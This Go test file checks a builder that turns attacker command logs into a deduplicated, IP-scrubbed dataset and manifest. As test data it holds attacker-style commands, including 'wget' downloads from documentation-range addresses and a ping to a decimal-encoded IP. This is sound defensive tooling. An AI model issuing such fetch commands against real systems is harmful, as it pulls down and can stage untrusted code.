package corpus

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
)

// commandEvent returns a row of one command from an address.
func commandEvent(ip, text string) *Row {
	r := &Row{}
	r.setCommand(text)
	r.Event.AttackerIP = ip
	return r
}

func TestBuilder(t *testing.T) {
	b := NewBuilder(mustExclude(t, "203.0.113.9,192.0.2.77"), 0)
	for i := range 3 {
		b.Add(commandEvent("198.51.100.1", fmt.Sprintf("wget http://198.51.100.%d/x", i)))
	}
	b.Add(commandEvent("198.51.100.1", "ping 3405803785"))
	b.Add(commandEvent("203.0.113.9", "secret of the operator"))
	session := &Row{}
	session.Event.SetKind("session")
	session.Event.SetField("jarm", event.StringValue("abc"))
	b.Add(session)
	b.Add(&Row{})

	want := Tallies{Read: 7, Dropped: 1, Unhandled: 1, Duplicates: 2, Kept: 3}
	if b.Count != want {
		t.Errorf("Count = %+v, want %+v", b.Count, want)
	}
	if got := b.Cohorts(); !cmp.Equal(got, []string{"seed_commands", "seed_behavioral"}) {
		t.Errorf("Cohorts() = %v", got)
	}
	var out strings.Builder
	rows, sum, err := b.Write(&out, "seed_commands")
	if err != nil || rows != 2 {
		t.Fatalf("Write() = %d rows, %v, want 2", rows, err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if !strings.HasSuffix(lines[0], `"payload":{"command_text":"wget http://198.51.100.0/x"},"count":3}`) ||
		!strings.HasSuffix(lines[1], `"payload":{"command_text":"ping scrubbed.test"},"count":1}`) {
		t.Errorf("Write() wrote\n%s", out.String())
	}
	if got := b.Scrub.Unmatched(); !cmp.Equal(got, []string{"192.0.2.77"}) {
		t.Errorf("Unmatched() = %v, want the address that nothing matched", got)
	}
	m, err := b.Manifest("1.0", "c.jsonl", sum, rows, []string{"logs/203.0.113.9.json"})
	if err != nil {
		t.Fatal(err)
	}
	doc, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{"203.0.113.9", "192.0.2.77"} {
		if strings.Contains(string(doc), leak) {
			t.Errorf("Manifest() holds %s: %s", leak, doc)
		}
	}
	if m.Exclusions != 2 || m.Scrubbed[Decimal] != 1 || len(m.ExclusionsHash) != 64 {
		t.Errorf("Manifest() = %s", doc)
	}
}

func TestBuilderBounded(t *testing.T) {
	b := NewBuilder(mustExclude(t, "203.0.113.9"), 2)
	for _, text := range []string{"a", "b", "c", "a", "d"} {
		b.Add(commandEvent("", text))
	}
	want := Tallies{Read: 5, Duplicates: 1, LeftOut: 2, Kept: 2}
	if b.Count != want {
		t.Errorf("Count = %+v, want %+v", b.Count, want)
	}
}
